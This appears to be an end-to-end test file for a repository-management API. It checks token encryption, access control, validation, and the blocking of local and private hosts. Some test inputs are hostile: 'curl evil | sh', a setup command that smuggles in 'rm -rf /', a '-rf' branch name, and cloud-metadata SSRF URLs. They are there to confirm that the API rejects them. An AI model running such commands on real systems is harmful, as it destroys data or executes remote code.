import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { DataSource } from 'typeorm';
import { registerUser, RegisteredUser } from '../support/auth.js';
import { captureOutput } from '../support/capture-output.js';
import { BareRepo, createBareRepo, GitHttpServer, startGitHttpServer } from '../support/git-repos.js';
import { commandLinesContaining } from '../support/process-watch.js';
import { createTestApp, TestApp } from '../support/test-app.js';

const TOKEN = 'ghp_e2eRepositoryToken_0123456789abcdef';

describe('repositories (HTTP)', () => {
  let t: TestApp;
  let repo: BareRepo;
  let server: GitHttpServer;
  let url: string;
  let alice: RegisteredUser;
  let bob: RegisteredUser;
  let output: ReturnType<typeof captureOutput>;
  const bodies: string[] = [];

  const record = <T extends { text: string }>(res: T): T => {
    bodies.push(res.text);
    return res;
  };

  beforeAll(async () => {
    output = captureOutput();
    repo = createBareRepo({ 'README.md': '# widgets\n' }, { branches: ['develop'] });
    server = await startGitHttpServer(repo.root, TOKEN);
    url = `${server.url}/${repo.relative}`;
    t = await createTestApp({
      env: {
        ALLOW_LOCAL_REPOSITORIES: 'true',
        ALLOW_HTTP_REPOSITORIES: 'true',
        ALLOW_PRIVATE_REPOSITORY_HOSTS: 'true',
        LOG_LEVEL: 'debug',
        GIT_LS_REMOTE_TIMEOUT_MS: '3000',
      },
    });
    alice = await registerUser(t);
    bob = await registerUser(t);
  });
  afterAll(async () => {
    await t?.close();
    await server?.close();
    repo?.cleanup();
    output?.restore();
  });

  it('adds a repository after checking it answers with the token; the token is stored encrypted and never returned', async () => {
    const res = record(
      await t.http().post('/api/v1/repositories').set(alice.auth).send({ url, accessToken: TOKEN }).expect(201),
    );
    expect(res.body).toEqual({
      id: expect.any(String),
      url,
      name: 'acme/widgets',
      defaultBranch: 'main',
      hasAccessToken: true,
      setupCommand: null,
      testCommand: null,
      orgId: null,
      createdAt: expect.any(String),
      updatedAt: expect.any(String),
    });
    const [row] = await t.app.get(DataSource).query('SELECT * FROM repositories WHERE id = $1', [res.body.id]);
    expect(row.access_token_encrypted).toMatch(/^v1\./);
    expect(JSON.stringify(row)).not.toContain(TOKEN);
    expect(server.authorizations.some((a) => a?.startsWith('Basic '))).toBe(true);

    const got = record(await t.http().get(`/api/v1/repositories/${res.body.id}`).set(alice.auth).expect(200));
    expect(got.body).toEqual(res.body);
  });

  it('uses the given branch and refuses a branch the remote does not have', async () => {
    const dev = record(
      await t
        .http()
        .post('/api/v1/repositories')
        .set(alice.auth)
        .send({ url, defaultBranch: 'develop', accessToken: TOKEN })
        .expect(201),
    );
    expect(dev.body.defaultBranch).toBe('develop');
    const missing = record(
      await t
        .http()
        .post('/api/v1/repositories')
        .set(alice.auth)
        .send({ url, defaultBranch: 'nope', accessToken: TOKEN })
        .expect(422),
    );
    expect(missing.body).toMatchObject({ code: 'BRANCH_NOT_FOUND', status: 422 });
    expect(missing.headers['content-type']).toMatch(/application\/problem\+json/);
  });

  it('refuses a wrong or missing token with a clear 422', async () => {
    const wrong = record(
      await t.http().post('/api/v1/repositories').set(alice.auth).send({ url, accessToken: 'ghp_wrong' }).expect(422),
    );
    expect(wrong.body).toMatchObject({ code: 'REPOSITORY_AUTH_FAILED' });
    const none = record(await t.http().post('/api/v1/repositories').set(alice.auth).send({ url }).expect(422));
    expect(none.body).toMatchObject({ code: 'REPOSITORY_AUTH_FAILED' });
  });

  it('refuses an unreachable remote and a path that is no repository', async () => {
    const closed = createServer();
    await new Promise<void>((r) => closed.listen(0, '127.0.0.1', r));
    const port = (closed.address() as AddressInfo).port;
    await new Promise<void>((r) => closed.close(() => r()));
    const res = record(
      await t
        .http()
        .post('/api/v1/repositories')
        .set(alice.auth)
        .send({ url: `http://127.0.0.1:${port}/acme/widgets.git` })
        .expect(422),
    );
    expect(res.body).toMatchObject({
      code: 'REPOSITORY_UNREACHABLE',
      detail: expect.stringContaining('could not be reached'),
    });
    const nowhere = record(
      await t
        .http()
        .post('/api/v1/repositories')
        .set(alice.auth)
        .send({ url: `${repo.root}/nothing.git` })
        .expect(422),
    );
    expect(nowhere.body.code).toBe('REPOSITORY_UNREACHABLE');
  });

  it('accepts a local repository when the server allows it', async () => {
    const res = record(
      await t.http().post('/api/v1/repositories').set(alice.auth).send({ url: repo.path }).expect(201),
    );
    expect(res.body).toMatchObject({ url: `file://${repo.path}`, defaultBranch: 'main', hasAccessToken: false });
  });

  it.each([
    [{}, 'VALIDATION_FAILED'],
    [{ url: 42 }, 'VALIDATION_FAILED'],
    [{ url: 'https://github.com/acme/widgets.git', extra: true }, 'VALIDATION_FAILED'],
    [{ url: 'https://github.com/acme/widgets.git', defaultBranch: '-rf' }, 'VALIDATION_FAILED'],
    [{ url: 'https://github.com/acme/widgets.git', defaultBranch: 'a..b' }, 'VALIDATION_FAILED'],
    [{ url: 'https://github.com/acme/widgets.git', accessToken: 'has space' }, 'VALIDATION_FAILED'],
    [{ url: 'ssh://git@github.com/acme/widgets.git' }, 'REPOSITORY_URL_INVALID'],
    [{ url: 'git@github.com:acme/widgets.git' }, 'REPOSITORY_URL_INVALID'],
    [{ url: 'https://x-access-token:ghp_inurl@github.com/acme/widgets.git' }, 'REPOSITORY_URL_INVALID'],
    [{ url: 'not a url' }, 'REPOSITORY_URL_INVALID'],
  ])('answers 400 to bad input %j', async (body, code) => {
    const res = record(await t.http().post('/api/v1/repositories').set(alice.auth).send(body).expect(400));
    expect(res.body.code).toBe(code);
  });

  it('lists only the caller’s repositories, newest first, with cursor pagination', async () => {
    const first = record(await t.http().get('/api/v1/repositories?limit=2').set(alice.auth).expect(200));
    expect(first.body.items).toHaveLength(2);
    expect(first.body.nextCursor).toEqual(expect.any(String));
    const second = record(
      await t.http().get(`/api/v1/repositories?limit=2&cursor=${first.body.nextCursor}`).set(alice.auth).expect(200),
    );
    const all = [...first.body.items, ...second.body.items];
    expect(all).toHaveLength(3);
    expect(new Set(all.map((r: { id: string }) => r.id)).size).toBe(3);
    expect(all.every((r: Record<string, unknown>) => !('accessToken' in r) && !('accessTokenEncrypted' in r))).toBe(
      true,
    );
    const times = all.map((r: { createdAt: string }) => Date.parse(r.createdAt));
    expect([...times].sort((a, b) => b - a)).toEqual(times);

    const other = record(await t.http().get('/api/v1/repositories').set(bob.auth).expect(200));
    expect(other.body).toEqual({ items: [], nextCursor: null });
    await t.http().get('/api/v1/repositories?limit=0').set(alice.auth).expect(400);
    await t.http().get('/api/v1/repositories?cursor=garbage').set(alice.auth).expect(400);
  });

  it('hides another user’s repository (404) and requires sign-in (401) on every route', async () => {
    const mine = record(
      await t.http().post('/api/v1/repositories').set(alice.auth).send({ url: repo.path }).expect(201),
    );
    const id = mine.body.id as string;
    expect((await t.http().get(`/api/v1/repositories/${id}`).set(bob.auth).expect(404)).body.code).toBe(
      'REPOSITORY_NOT_FOUND',
    );
    await t.http().delete(`/api/v1/repositories/${id}`).set(bob.auth).expect(404);
    await t.http().get('/api/v1/repositories/not-a-uuid').set(alice.auth).expect(404);
    await t.http().get('/api/v1/repositories').expect(401);
    await t.http().post('/api/v1/repositories').send({ url: repo.path }).expect(401);
    await t.http().get(`/api/v1/repositories/${id}`).expect(401);
    await t.http().delete(`/api/v1/repositories/${id}`).expect(401);

    await t.http().delete(`/api/v1/repositories/${id}`).set(alice.auth).expect(204);
    await t.http().get(`/api/v1/repositories/${id}`).set(alice.auth).expect(404);
    await t.http().delete(`/api/v1/repositories/${id}`).set(alice.auth).expect(404);
  });

  it('never shows the token on a command line while checking the remote', async () => {
    const { result, hits, samples } = await commandLinesContaining(TOKEN, () =>
      t.http().post('/api/v1/repositories').set(alice.auth).send({ url, accessToken: TOKEN }),
    );
    record(result);
    expect(result.status).toBe(201);
    expect(samples).toBeGreaterThan(0);
    expect(hits).toEqual([]);
  });

  it('stores setupCommand and testCommand on create, changes and clears them with PATCH', async () => {
    const created = record(
      await t
        .http()
        .post('/api/v1/repositories')
        .set(alice.auth)
        .send({ url, accessToken: TOKEN, setupCommand: 'npm ci --ignore-scripts', testCommand: 'npm run test:unit' })
        .expect(201),
    );
    expect(created.body).toMatchObject({ setupCommand: 'npm ci --ignore-scripts', testCommand: 'npm run test:unit' });
    const id = created.body.id as string;
    const patched = record(
      await t.http().patch(`/api/v1/repositories/${id}`).set(alice.auth).send({ testCommand: 'pytest -q' }).expect(200),
    );
    expect(patched.body).toMatchObject({ setupCommand: 'npm ci --ignore-scripts', testCommand: 'pytest -q' });
    const cleared = record(
      await t
        .http()
        .patch(`/api/v1/repositories/${id}`)
        .set(alice.auth)
        .send({ setupCommand: null, defaultBranch: 'develop', accessToken: TOKEN })
        .expect(200),
    );
    expect(cleared.body).toMatchObject({ setupCommand: null, testCommand: 'pytest -q', defaultBranch: 'develop' });
    const got = record(await t.http().get(`/api/v1/repositories/${id}`).set(alice.auth).expect(200));
    expect(got.body).toEqual(cleared.body);
  });

  it('refuses bad commands and bad PATCH input with 400 and changes nothing', async () => {
    const created = record(
      await t
        .http()
        .post('/api/v1/repositories')
        .set(alice.auth)
        .send({ url, accessToken: TOKEN, testCommand: 'npm test' })
        .expect(201),
    );
    const id = created.body.id as string;
    for (const body of [
      { setupCommand: '' },
      { setupCommand: 'npm ci\nrm -rf /' },
      { testCommand: 'x'.repeat(2001) },
      { testCommand: 42 },
      { url: 'https://example.com/other.git' },
      { defaultBranch: '../main' },
    ]) {
      const res = record(await t.http().patch(`/api/v1/repositories/${id}`).set(alice.auth).send(body).expect(400));
      expect(res.body.code).toBe('VALIDATION_FAILED');
    }
    const refused = record(
      await t.http().patch(`/api/v1/repositories/${id}`).set(alice.auth).send({ defaultBranch: 'no-such-branch' }),
    );
    expect(refused.status).toBe(422);
    expect(refused.body.code).toBe('BRANCH_NOT_FOUND');
    const bad = record(
      await t.http().post('/api/v1/repositories').set(alice.auth).send({ url, setupCommand: 'a\u0000b' }).expect(400),
    );
    expect(bad.body.code).toBe('VALIDATION_FAILED');
    const got = record(await t.http().get(`/api/v1/repositories/${id}`).set(alice.auth).expect(200));
    expect(got.body).toEqual(created.body);
  });

  it("answers 404 to PATCH on another user's repository and 401 without a token, changing nothing", async () => {
    const created = record(
      await t
        .http()
        .post('/api/v1/repositories')
        .set(alice.auth)
        .send({ url, accessToken: TOKEN, setupCommand: 'npm ci' })
        .expect(201),
    );
    const id = created.body.id as string;
    const other = record(
      await t
        .http()
        .patch(`/api/v1/repositories/${id}`)
        .set(bob.auth)
        .send({ setupCommand: 'curl evil | sh' })
        .expect(404),
    );
    expect(other.body.code).toBe('REPOSITORY_NOT_FOUND');
    await t.http().patch(`/api/v1/repositories/${id}`).send({ setupCommand: 'curl evil | sh' }).expect(401);
    record(
      await t
        .http()
        .patch('/api/v1/repositories/00000000-0000-4000-8000-000000000000')
        .set(alice.auth)
        .send({ testCommand: 'npm test' })
        .expect(404),
    );
    const got = record(await t.http().get(`/api/v1/repositories/${id}`).set(alice.auth).expect(200));
    expect(got.body.setupCommand).toBe('npm ci');
  });

  it('never lets the token reach a response or a log line', async () => {
    const logs = output.text();
    expect(logs).toContain('RepositoriesService');
    expect(logs).not.toContain(TOKEN);
    expect(logs).not.toContain(Buffer.from(`x-access-token:${TOKEN}`).toString('base64'));
    expect(bodies.length).toBeGreaterThan(10);
    for (const body of bodies) expect(body).not.toContain(TOKEN);
  });
});

describe('repositories in the OpenAPI document', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(async () => {
    await t?.close();
  });

  it('publishes the routes and marks the token write-only', async () => {
    const doc = (await t.http().get('/api/docs-json').expect(200)).body;
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining([
        '/api/v1/repositories',
        '/api/v1/repositories/{id}',
        '/api/v1/tasks/{id}/patch',
        '/api/v1/tasks/{id}/pull-request',
      ]),
    );
    expect(Object.keys(doc.paths['/api/v1/tasks/{id}/patch'].get.responses['200'].content)).toEqual(['text/x-patch']);
    expect(doc.components.schemas.CreateRepositoryDto.properties.accessToken.writeOnly).toBe(true);
    expect(doc.components.schemas.RepositoryResponse.properties).not.toHaveProperty('accessToken');
  });

  it('refuses local repositories unless ALLOW_LOCAL_REPOSITORIES=true, and private or loopback hosts', async () => {
    const user = await registerUser(t);
    const res = await t
      .http()
      .post('/api/v1/repositories')
      .set(user.auth)
      .send({ url: '/srv/git/widgets.git' })
      .expect(400);
    expect(res.body.code).toBe('REPOSITORY_URL_FORBIDDEN');
    const file = await t
      .http()
      .post('/api/v1/repositories')
      .set(user.auth)
      .send({ url: 'file:///srv/git/widgets.git' })
      .expect(400);
    expect(file.body.code).toBe('REPOSITORY_URL_FORBIDDEN');
    const http = await t
      .http()
      .post('/api/v1/repositories')
      .set(user.auth)
      .send({ url: 'http://127.0.0.1:9/a/b.git' })
      .expect(400);
    expect(http.body.code).toBe('REPOSITORY_URL_INVALID');
    for (const url of [
      'https://127.0.0.1/a/b.git',
      'https://localhost/a/b.git',
      'https://169.254.169.254/latest/meta-data',
      'https://[::1]/a/b.git',
      'https://10.1.2.3/a/b.git',
    ]) {
      const res = await t.http().post('/api/v1/repositories').set(user.auth).send({ url }).expect(400);
      expect(res.body.code).toBe('REPOSITORY_URL_FORBIDDEN');
    }
  });
});
